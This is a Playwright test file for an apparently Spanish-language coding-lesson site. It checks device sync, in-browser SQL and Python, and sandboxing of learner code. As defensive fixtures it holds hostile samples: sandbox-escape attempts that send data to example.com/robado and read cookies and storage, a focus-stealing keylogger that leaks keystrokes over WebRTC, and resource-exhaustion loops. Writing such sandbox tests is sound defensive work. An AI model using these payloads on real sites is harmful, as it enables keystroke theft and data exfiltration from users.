import { createSocket } from "node:dgram";
import type { Page } from "@playwright/test";
import { openPage, signIn } from "../accounts";
import { expect, test } from "../fixtures";
import { block, openLesson, run } from "../exercises";

// Attempts of hostile code are refused, and the browser says so.
test.use({ expectedErrors: [/Content.Security.Policy|sandbox|not allowed|robado|Se detuvo/i] });

test("what a member writes is on their other device; of two texts they say which", async ({ page, browser }) => {
  // Somebody whose code no other journey writes.
  const path = await openLesson(page, "collaborator");
  const saved = (where: Page) => where.waitForResponse((one) => one.request().method() === "PUT" && one.ok());
  const write = async (where: Page, text: string) => {
    const answer = saved(where);
    await where.getByLabel("Tu código JavaScript").fill(text);
    await answer;
  };
  await page.getByRole("button", { name: "Editar" }).nth(1).click();
  await write(page, "// uno");
  const context = await browser.newContext();
  const device = await context.newPage();
  await signIn(device, "collaborator");
  await openPage(device, path);
  await device.getByRole("button", { name: "Editar" }).nth(1).click();
  await expect(device.getByLabel("Tu código JavaScript")).toHaveValue("// uno");
  await write(device, "// dos");
  await write(page, "// tres");
  await expect(page.getByRole("alert").getByText("Escribiste otro código para este ejercicio")).toBeVisible();
  await page.getByText("Ver el otro").click();
  await expect(page.getByLabel("El otro código")).toHaveText("// dos");
  const answer = saved(page);
  await page.getByRole("button", { name: "Quedarme con este" }).click();
  await answer;
  await openPage(device, path);
  await device.getByRole("button", { name: "Editar" }).nth(1).click();
  await expect(device.getByLabel("Tu código JavaScript")).toHaveValue("// tres");
  await context.close();
});

test("SQL runs on a Postgres of the browser, with the tables of the block", async ({ page }) => {
  // Where the machine does other things, a Postgres takes its time to come.
  test.slow();
  await openLesson(page);
  await page.getByRole("button", { name: "Ejecutar" }).nth(2).click();
  const desk = block(page, "SQL");
  await expect(desk.getByRole("cell", { name: "Lámpara" })).toBeVisible({ timeout: 180_000 });
  await expect(desk.getByText("No superada: Los productos por su precio")).toBeVisible();
  await run(page, "SQL", "select nombre, precio from productos order by precio desc");
  await expect(desk.getByText("Superada: Los productos por su precio")).toBeVisible();
  // The changes of a run are gone with it.
  await run(page, "SQL", "drop table productos; select * fro x");
  await expect(desk.getByLabel("Salida")).toHaveText('syntax error at or near "fro" (línea 1)');
  await expect(desk.getByText("La consulta no se entiende donde dice «fro»")).toBeVisible();
  await run(page, "SQL", "select nombre, precio from productos order by precio desc");
  await expect(desk.getByText("Superada: Los productos por su precio")).toBeVisible();
});

test("Python comes once it is asked for, runs and is ended", async ({ page }) => {
  test.slow();
  await openLesson(page);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  expect(asked.filter((url) => url.includes(".gzip"))).toEqual([]);
  await page.getByRole("button", { name: "Ejecutar" }).nth(3).click();
  const desk = block(page, "Python");
  await expect(desk.getByText(/^(?:Descargando Python: \d de 6 MB|Preparando Python: .*)$/)).toBeVisible({
    timeout: 180_000,
  });
  await expect(desk.getByText("no los une")).toBeVisible({ timeout: 180_000 });
  const output = desk.getByLabel("Salida");
  await run(page, "Python", "def suma(a, b):\n    print([a, b])\n    return a + b");
  await expect(desk.getByText("Superada: La suma de 2 y 3 es 5")).toBeVisible();
  await expect(output).toHaveText("[2, 3]['a', 'b']");

  for (const [text, told] of [
    ["x = 1\nprint(x / 0)", "ZeroDivisionError: division by zero (línea 2)"],
    ["print(suma)", "NameError: name 'suma' is not defined (línea 1)"],
    ["def f(:", "SyntaxError: invalid syntax (línea 1)"],
    ["import js\njs.fetch('/api/health/live?robado')", "AttributeError: fetch (línea 2)"],
    ["import js\njs.parent.document", "AttributeError: parent (línea 2)"],
    ["import js\njs.localStorage", "AttributeError: localStorage (línea 2)"],
    ["import js\njs.Object.constructor('return self')()", "EvalError"],
    ["from pyodide.http import open_url\nopen_url('/robado')", "NameError: name 'XMLHttpRequest' is not defined"],
    ["a = bytearray(2 ** 30)", "Se detuvo: pidió más de 128 MB de memoria."],
  ]) {
    await run(page, "Python", text!);
    await expect(output).toContainText(told!, { timeout: 60_000 });
  }
  await run(page, "Python", "while True: pass");
  await expect(output).toContainText("Se detuvo: tardó más de 5 segundos", { timeout: 60_000 });
  expect(asked.filter((url) => url.includes("robado"))).toEqual([]);
});

const attempts = `<script>
const inFrame = (add) => new Promise((yes, no) => { addEventListener("message", ({ data }) => data === "hijo" && yes()); add(document.createElement("iframe")); setTimeout(no, 700); });
const tries = {
  fetch: () => fetch("/api/health/live?robado"),
  otro: () => fetch("https://example.com/robado", { mode: "no-cors" }),
  xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", "/api/health/live?robado"); x.send(); }),
  socket: () => new Promise((yes, no) => { const s = new WebSocket("wss://example.com/robado"); s.onopen = yes; s.onerror = no; }),
  imagen: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "https://example.com/robado.png"; }),
  guion: () => new Promise((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = "/visit.js?robado"; document.head.append(s); }),
  eval: () => eval("1"),
  storage: () => localStorage.getItem("x"),
  session: () => sessionStorage.length,
  cookie: () => document.cookie,
  base: () => indexedDB.open("x"),
  parent: () => parent.document.title,
  top: () => { top.location = "https://example.com/robado"; },
  frame: () => frames.frameElement.ownerDocument.cookie,
  popup: () => { if (!window.open("https://example.com/robado")) throw 0; },
  worker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob([""]))); w.onerror = no; setTimeout(yes, 500); }),
  memoria: () => new Uint8Array(2 ** 30),
  texto: () => "x".repeat(2 ** 28),
  lista: () => new Array(2 ** 26).fill(0),
  rtc: () => new RTCPeerConnection(),
  marco: () => inFrame((child) => { child.srcdoc = "<script>parent.postMessage('hijo', '*')</" + "script>"; document.body.append(child); }),
  html: () => inFrame(() => { document.body.insertAdjacentHTML("beforeend", '<div><iframe srcdoc="<script>parent.postMessage(&quot;hijo&quot;, &quot;*&quot;)</' + 'script>"></iframe></div>'); }),
  sombra: () => inFrame((child) => {
    child.srcdoc = "<script>top.postMessage('hijo', '*');parent.postMessage('hijo', '*')</" + "script>";
    const host = document.createElement("div");
    document.body.append(host);
    host.attachShadow({ mode: "closed" }).append(child);
  }),
  vacio: () => { const child = document.createElement("iframe"); document.body.append(child); new (window[0].RTCPeerConnection)(); },
  plantilla: () => document.body.setHTMLUnsafe("<p></p>"),
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { await attempt(); console.log(name, "SE PUDO"); } catch { console.log(name, "no"); }
  }
  console.log("fin", self.origin);
})();
</script>`;

test("hostile code reaches neither the page nor the session nor another origin, and is ended", async ({ page }) => {
  await openLesson(page);
  const cookies = await page.context().cookies();
  const asked: string[] = [];
  page.on("response", (response) => asked.push(response.url()));
  const address = page.url();
  await page.getByRole("button", { name: "Editar" }).first().click();
  const html = block(page, "HTML");
  const output = html.getByLabel("Salida");

  await run(page, "HTML", attempts);
  await expect(output).toContainText("fin null");
  expect(await output.innerText()).not.toContain("SE PUDO");
  expect(asked.filter((url) => url.includes("robado"))).toEqual([]);

  const before = await page.evaluate(() => history.length);
  await run(
    page,
    "HTML",
    "<script>for (let i = 0; i < 9; i++) history.pushState(i, ''); console.log('listo')</script>",
  );
  await expect(output).toContainText("listo");
  expect(await page.evaluate(() => history.length)).toBe(before);

  await run(page, "HTML", "<script>while (true) {}</script>");
  await expect(output).toContainText("Se detuvo: tardó más de 5 segundos");
  await run(
    page,
    "HTML",
    `<script>for (let i = 0; i < 50000; i++) parent.postMessage({ type: "line", line: { text: "x" } }, "*")</script>`,
  );
  await expect(output).toContainText("Se detuvo: el código envió demasiados mensajes.");
  await expect(html.locator("iframe")).toHaveCount(0);

  await page.getByRole("button", { name: "Editar" }).first().click();
  const script = block(page, "JavaScript").getByLabel("Salida");
  await run(page, "JavaScript", "while (true) {}");
  await expect(script).toContainText("Se detuvo: tardó más de 5 segundos", { timeout: 30_000 });
  await run(page, "JavaScript", "new ArrayBuffer(2 ** 30)");
  await expect(script).toContainText("Se detuvo: pidió más de 64 MB");
  await run(
    page,
    "JavaScript",
    "console.log([typeof fetch, typeof self, typeof document, typeof postMessage, typeof process])",
  );
  await expect(script).toHaveText('[ "undefined", "undefined", "undefined", "undefined", "undefined" ]');

  expect(page.url()).toBe(address);
  expect(await page.context().cookies()).toEqual(cookies);
  expect(page.context().pages()).toHaveLength(1);
  expect((await page.request.get("/api/auth/session")).status()).toBe(200);
});

test("what is typed beside code that takes the focus stays on the page, and a page that says unasked that it lives is ended", async ({
  page,
}) => {
  const heard: Buffer[] = [];
  const udp = createSocket("udp4").on("message", (packet) => heard.push(packet));
  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
  await openLesson(page);
  await page.getByRole("button", { name: "Editar" }).first().click();
  const html = block(page, "HTML");
  const output = html.getByLabel("Salida");
  await run(page, "HTML", thief(udp.address().port));
  const area = page.getByLabel("Tu código HTML");
  await area.click();
  await area.press("Control+A");
  await page.keyboard.type("mi contraseña secreta, letra a letra", { delay: 40 });
  await expect(output).toContainText("capturar lo que escribes");
  await area.press("Control+A");
  await page.keyboard.type("y otra");
  await expect(area).toHaveValue("y otra");
  // Between the first time and the moment in which the focus is given back.
  expect((await output.innerText()).split("pulsada").length - 1).toBeLessThanOrEqual(1);
  expect(heard).toEqual([]);
  udp.close();

  // A first field may have the focus once, and whoever presses into it writes there.
  await run(page, "HTML", "<input><script>document.querySelector('input').focus()</script>");
  const own = html.frameLocator("iframe").getByRole("textbox");
  // The area around the frame hears of the pointer first, and lets it in.
  await own.click({ force: true });
  await page.keyboard.type("hola");
  await expect(own).toHaveValue("hola");

  const lively = "parent.postMessage({ type: 'alive' }, '*')";
  await run(page, "HTML", `<script>${lively};const end = Date.now() + 9e4; while (Date.now() < end);</script>`);
  await expect(output).toContainText("Se detuvo: tardó más de 5 segundos");
});

/** Takes the focus again and again, and tells what is typed then: here, and to an address of ours. */
const thief = (port: number) => `<input id="i"><script>
addEventListener("keydown", ({ key }) => {
  console.log("pulsada", key);
  try { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] }).createDataChannel(key); } catch {}
});
setInterval(() => i.focus(), 30);
try {
  const link = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });
  link.createDataChannel("x");
  link.createOffer().then((offer) => link.setLocalDescription(offer));
} catch {}
</script>`;
